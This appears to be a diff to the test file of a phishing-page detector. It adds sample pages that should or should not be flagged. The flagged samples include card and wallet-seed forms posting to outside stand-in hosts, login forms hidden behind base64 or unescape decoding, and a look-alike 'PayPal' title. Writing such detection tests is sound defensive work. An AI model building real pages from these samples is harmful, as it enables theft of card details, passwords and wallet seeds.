@@ -62,6 +62,43 @@ describe('signs', () => {
       want: ['hidden-form'],
     },
     {
+      name: 'a card number that goes elsewhere',
+      html: page(
+        'Update your payment',
+        `<form action="http://192.0.2.9/c"><input autocomplete="cc-number"><input name=cvv></form>`,
+      ),
+      want: ['password-elsewhere'],
+    },
+    {
+      name: 'a recovery phrase that goes elsewhere',
+      html: page(
+        'Restore your wallet',
+        `<form action="https://seed.example/"><textarea name=seed></textarea></form>`,
+      ),
+      want: ['password-elsewhere'],
+    },
+    {
+      name: 'a form that a script decodes, from base64',
+      html: page(
+        'Login',
+        `<script>document.write(atob("${btoa(`<form action="https://x.example/">${password}</form>`)}"))</script>`,
+      ),
+      want: ['hidden-form'],
+    },
+    {
+      name: 'the same from signs',
+      html: page(
+        'Login',
+        `<script>document.write(unescape("${encodeURIComponent(`<form>${password}</form>`)}"))</script>`,
+      ),
+      want: ['hidden-form'],
+    },
+    {
+      name: 'a brand’s name in look-alike letters',
+      html: page('Pаypаl', `<form action="/go">${password}</form>`),
+      want: ['brand-login'],
+    },
+    {
       name: 'a page in a frame’s address',
       html: page('Welcome', `<iframe src="data:text/html;base64,PGZvcm0+"></iframe>`),
       want: ['data-frame'],
@@ -135,6 +172,24 @@ describe('healthy pages', () => {
       html: page('Apple pie', `<h1>Apple pie</h1><form action=/in>${password}</form>`),
     },
     { name: 'the word chase', html: page('Chase the cat', `<form action=/in>${password}</form>`) },
+    {
+      name: 'a shop with its own checkout and PayPal’s mark',
+      html: page(
+        'Checkout',
+        `<img alt="PayPal" src=p.svg><form action="/pay"><input autocomplete="cc-number"><input name=cvc></form>`,
+      ),
+    },
+    {
+      name: 'a card game',
+      html: page(
+        'Cards',
+        `<form action="https://x.example/deal"><input name=card><input name=seed-packet></form>`,
+      ),
+    },
+    {
+      name: 'an image kept in a script',
+      html: page('Home', `<script>const icon = atob("${btoa('<svg><path d="M0 0h1"/></svg>')}")</script>`),
+    },
     { name: 'nothing', html: '' },
   ])('$name', ({ html }) => expect(signsOf(html)).toEqual([]))
 
